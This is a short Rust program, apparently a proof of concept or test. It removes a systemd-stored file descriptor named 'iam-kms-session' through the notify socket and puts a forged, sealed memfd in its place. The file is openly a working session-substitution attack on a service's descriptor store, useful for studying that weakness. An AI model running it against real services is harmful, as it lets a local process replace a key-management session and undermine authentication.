//! A process of the server's user that puts a memory file of its own in the place of the session that systemd
//! keeps for its unit. Source: sd_notify(3).

#![allow(clippy::unwrap_used)]

use std::{env, fs::File, io::IoSlice, io::Write, os::fd::AsRawFd, os::unix::net::UnixDatagram};

use nix::{
    fcntl::{FcntlArg, SealFlag, fcntl},
    sys::{
        memfd::{MFdFlags, memfd_create},
        socket::{ControlMessage, MsgFlags, sendmsg},
    },
};

fn main() {
    let socket = UnixDatagram::unbound().unwrap();
    socket.connect(env::var("NOTIFY_SOCKET").unwrap()).unwrap();
    let remove = b"FDSTOREREMOVE=1\nFDNAME=iam-kms-session\n";
    socket.send(remove).unwrap();
    let memfd = memfd_create("forged", MFdFlags::MFD_ALLOW_SEALING).unwrap();
    let mut file = File::from(memfd);
    // Of the form that is in use; the rest would have to be proven.
    file.write_all(&[2; 200]).unwrap();
    let seals = SealFlag::F_SEAL_SEAL
        | SealFlag::F_SEAL_SHRINK
        | SealFlag::F_SEAL_GROW
        | SealFlag::F_SEAL_WRITE;
    fcntl(&file, FcntlArg::F_ADD_SEALS(seals)).unwrap();
    let text = b"FDSTORE=1\nFDNAME=iam-kms-session\n";
    let descriptors = [file.as_raw_fd()];
    sendmsg::<()>(
        socket.as_raw_fd(),
        &[IoSlice::new(text)],
        &[ControlMessage::ScmRights(&descriptors)],
        MsgFlags::empty(),
        None,
    )
    .unwrap();
}
